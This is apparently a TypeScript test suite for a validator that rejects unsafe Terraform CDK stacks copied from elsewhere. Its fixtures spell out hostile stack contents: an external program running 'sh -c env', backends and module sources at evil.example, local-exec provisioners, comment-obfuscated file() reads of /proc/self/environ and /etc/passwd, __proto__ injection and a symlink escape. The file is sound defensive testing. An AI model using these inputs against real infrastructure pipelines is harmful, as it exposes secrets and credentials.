import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as z from "zod";
import { copyForeignStack, ForeignStackError } from "../../scripts/terraform/foreign-stack";
import { synthesizeStacks } from "../../scripts/terraform/synthesize";

const output = mkdtempSync(join(tmpdir(), "almanac-foreign-"));
let stacks: string;
beforeAll(async () => {
  ({ folder: stacks } = await synthesizeStacks({ outputDirectory: output }));
});
afterAll(() => {
  rmSync(output, { recursive: true });
});

it.each(["staging", "production"])("accepts the stack %s of main.ts", async (name) => {
  const copy = join(output, "copies", name);
  await copyForeignStack(join(stacks, name), copy);
  const files = readdirSync(copy, { recursive: true, encoding: "utf8" });
  expect(files).toEqual(expect.arrayContaining(["cdk.tf.json", "modules/timers/main.tf.json"]));
  // Its HCL was not checked.
  expect(files.filter((file) => file.endsWith(".tf"))).toEqual([]);
});

const stackSchema = z.record(z.string(), z.record(z.string(), z.unknown()));
type Change = (stack: z.output<typeof stackSchema>) => void;

const asset = '${filebase64sha256("${path.module}/assets/check.zip")}';
const ATTACKS: Readonly<Record<string, Change>> = {
  "a program as a data source": ({ data }) => {
    Object.assign(data ?? {}, { external: { run: { program: ["sh", "-c", "env"] } } });
  },
  "a request as a data source": ({ data }) => {
    Object.assign(data ?? {}, { http: { send: { url: "https://evil.example" } } });
  },
  "a parameter's value": ({ data }) => {
    Object.assign(data ?? {}, { aws_ssm_parameter: { secret: { name: "/almanac/slack/orders" } } });
  },
  "another provider": ({ terraform }) => {
    Object.assign(terraform ?? {}, { required_providers: { aws: { source: "evil/aws", version: "1" } } });
  },
  "one more provider": ({ terraform }) => {
    const aws = { source: "hashicorp/aws", version: "~> 5.100" };
    Object.assign(terraform ?? {}, { required_providers: { aws, x: { source: "evil/x", version: "1" } } });
  },
  "an endpoint of AWS elsewhere": ({ provider }) => {
    Object.assign(provider ?? {}, { aws: [{ region: "eu-central-1", endpoints: [{ s3: "https://evil.example" }] }] });
  },
  "credentials from a program": ({ provider }) => {
    Object.assign(provider ?? {}, { aws: [{ region: "eu-central-1", shared_config_files: ["./config"] }] });
  },
  "a state elsewhere": ({ terraform }) => {
    Object.assign(terraform ?? {}, { backend: { http: { address: "https://evil.example" } } });
  },
  "a module from the network": ({ module }) => {
    Object.assign(module ?? {}, { x: { source: "git::https://evil.example/x.git" } });
  },
  "a module outside": ({ module }) => {
    Object.assign(module ?? {}, { x: { source: "./modules/../../../x" } });
  },
  "a resource of another provider": ({ resource }) => {
    Object.assign(resource ?? {}, { null_resource: { x: {} } });
  },
  "a provisioner": ({ resource }) => {
    Object.assign(resource ?? {}, { aws_sns_topic: { x: { provisioner: [{ "local-exec": { command: "env" } }] } } });
  },
  "a provisioner in a list": ({ resource }) => {
    Object.assign(resource ?? {}, { aws_sns_topic: { x: [{ provisioner: {} }] } });
  },
  "a file in an output": ({ output: outputs }) => {
    Object.assign(outputs ?? {}, { x: { value: '${file("/proc/self/environ")}' } });
  },
  "a file in a directive": ({ output: outputs }) => {
    Object.assign(outputs ?? {}, { x: { value: '%{ if true }${ filebase64 ("/etc/passwd")}%{ endif }' } });
  },
  "a file behind the hash of an asset": ({ output: outputs }) => {
    Object.assign(outputs ?? {}, { x: { value: `${asset}\${templatefile("/proc/self/environ", {})}` } });
  },
  "a file in a name": ({ output: outputs }) => {
    Object.assign(outputs ?? {}, { x: { value: { '${file("/etc/passwd")}': 1 } } });
  },
  ...Object.fromEntries(
    [
      'file/* c */("x")',
      'file #c\n("x")',
      'file //c\n/**/ ("x")',
      'core :: /**/ file("x")',
      "provider /**/ ::x::y()",
    ].map((expression): readonly [string, Change] => [
      `a file behind a comment: ${JSON.stringify(expression)}`,
      ({ output: outputs }) => {
        Object.assign(outputs ?? {}, { x: { value: `\${${expression}}` } });
      },
    ]),
  ),
  "an ephemeral resource": (stack) => {
    stack["ephemeral"] = { aws_secretsmanager_secret_version: { x: { secret_id: "x" } } };
  },
  "a check": (stack) => {
    stack["check"] = { x: { data: { http: { x: { url: "https://evil.example" } } } } };
  },
};

describe("a stack with", () => {
  it.each(Object.entries(ATTACKS))("%s is not planned", async (_, change) => {
    const folder = mkdtempSync(join(output, "attack-"));
    const stack = stackSchema.parse(JSON.parse(readFileSync(join(stacks, "staging", "cdk.tf.json"), "utf8")));
    change(stack);
    writeFileSync(join(folder, "cdk.tf.json"), JSON.stringify(stack));
    await expect(copyForeignStack(folder, join(output, "copy"))).rejects.toThrow(ForeignStackError);
  });

  it.each([
    "main.tf",
    ".terraformrc",
    "terraform.tfvars",
    ".terraform/providers/x",
    ".terraform.lock.hcl",
    "override.tf",
    "modules/main.tf",
    "modules/x/.terraform/modules/modules.json",
    "modules/x/main.tf.json",
    "modules/x/assets/run.sh",
    "cdk.tf.json/../x.tofu",
  ])("the file %s is not planned", async (name) => {
    const folder = mkdtempSync(join(output, "attack-"));
    mkdirSync(join(folder, name, ".."), { recursive: true });
    if (name.includes("..")) mkdirSync(join(folder, "cdk.tf.json"), { recursive: true });
    writeFileSync(join(folder, name), "");
    await expect(copyForeignStack(folder, join(output, "copy"))).rejects.toThrow("is no file of a stack");
  });

  it("the JSON of a module with a program is not planned", async () => {
    const folder = mkdtempSync(join(output, "attack-"));
    mkdirSync(join(folder, "modules", "x"), { recursive: true });
    const program = { data: { external: { run: { program: ["sh", "-c", "env"] } } } };
    writeFileSync(join(folder, "modules", "x", "module.json"), JSON.stringify(program));
    await expect(copyForeignStack(folder, join(output, "copy"))).rejects.toThrow(ForeignStackError);
  });

  it("a name twice is planned as it was checked", async () => {
    const folder = mkdtempSync(join(output, "attack-"));
    const program = JSON.stringify({ external: { run: { program: ["sh", "-c", "env"] } } });
    writeFileSync(join(folder, "cdk.tf.json"), `{"data": ${program}, "data": {"aws_region": {"here": {}}}}`);
    await copyForeignStack(folder, join(output, "copy"));
    expect(readFileSync(join(output, "copy", "cdk.tf.json"), "utf8")).not.toContain("external");
  });

  it.each([
    "[]",
    "null",
    "1",
    '{"data": [{"external": {}}]}',
    '{"resource": {"aws_sns_topic": [{"x": {"provisioner": {}}}]}}',
    "{",
    '{"module": {"__proto__": {"source": "git::https://evil.example/x.git"}}}',
    '{"resource": {"aws_sns_topic": {"__proto__": {"provisioner": {}}}}}',
  ])("%s is not planned", async (content) => {
    const folder = mkdtempSync(join(output, "attack-"));
    writeFileSync(join(folder, "cdk.tf.json"), content);
    await expect(copyForeignStack(folder, join(output, "copy"))).rejects.toThrow(ForeignStackError);
  });

  it("the HCL of a module is planned without it", async () => {
    const folder = mkdtempSync(join(output, "attack-"));
    mkdirSync(join(folder, "modules", "x"), { recursive: true });
    writeFileSync(join(folder, "modules", "x", "main.tf"), 'data "external" "run" { program = ["env"] }');
    writeFileSync(join(folder, "modules", "x", "module.json"), JSON.stringify({ resource: {} }));
    await copyForeignStack(folder, join(output, "copy"));
    expect(readdirSync(join(output, "copy", "modules", "x"))).toEqual(["main.tf.json"]);
  });

  it("a link out of it is not planned", async () => {
    const folder = mkdtempSync(join(output, "attack-"));
    symlinkSync("/proc/self/environ", join(folder, "cdk.tf.json"));
    await expect(copyForeignStack(folder, join(output, "copy"))).rejects.toThrow("is no ordinary file");
  });
});
